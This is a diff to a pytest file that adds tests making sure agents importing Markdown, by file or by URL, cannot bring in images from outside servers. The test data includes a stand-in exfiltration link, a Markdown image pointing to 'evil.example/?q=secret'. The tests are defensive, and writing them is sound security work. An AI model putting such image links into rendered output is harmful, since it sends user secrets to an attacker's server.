@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
 from typing import Any
 
 import pytest
@@ -9,7 +10,9 @@ import pytest
 from app.domain.content.outside_pictures import outside_pictures
 from tests import make
 from tests.cast import Cast
+from tests.factories import imports
 from tests.factories.agents import Agent, agent
+from tests.local_server import Neighbour, sent
 
 PICTURE = "Look: ![](https://evil.example/?q=secret)"
 WRITING = ["read", "write"]
@@ -93,3 +96,29 @@ def test_an_agent_that_may_merge_settles_no_conflict_with_a_picture(cast: Cast, 
     winner = {"page": page, "field": "document", "passage": "a", "winner": "text", "text": PICTURE}
     merge = f"/v1/spaces/{space}/change-requests/{request}/merge"
     refused(merger.post(merge, {"winners": [winner]}), "winners.0.text")
+
+
+@pytest.mark.parametrize(
+    "text", [f"# Oil\n\n{PICTURE}\n", "---\ncover: https://evil.example/?q=secret\n---\n\n# Oil\n"]
+)
+def test_an_agent_that_may_import_brings_no_picture(cast: Cast, space: str, text: str) -> None:
+    importer = agent(cast.ed, scopes=[*WRITING, "operation:startImportRun"])
+    for body, status in ((text, "failed"), ("# Oil\n\n![](lamp.png)\n", "completed")):
+        file = {"name": "oil.md", "base64": b64encode(body.encode()).decode()}
+        source = {"type": "file", "files": [file]}
+        target = {"space": space, "changeRequestSubject": "Oil"}
+        run = importer.post(imports.path(cast), {"source": source, "target": target})
+        assert run.status_code == 201, run.text
+        ended = imports.ended(cast, run.json())
+        assert ended["status"] == status
+        if status == "failed":
+            assert "images from other servers: https://evil.example/?q=secret" in ended["error"]
+
+
+def test_an_agent_that_may_import_from_an_address_brings_no_picture(
+    cast: Cast, space: str, neighbour: Neighbour
+) -> None:
+    importer = agent(cast.ed, scopes=[*WRITING, "operation:importContent"])
+    url = neighbour.shows("/oil.md", sent(f"# Oil\n\n{PICTURE}\n", "text/markdown"))
+    refused(imports.brings(importer, space, url, "markdown"), "url")
+    assert imports.brings(cast.ed, space, url, "markdown").status_code == 201
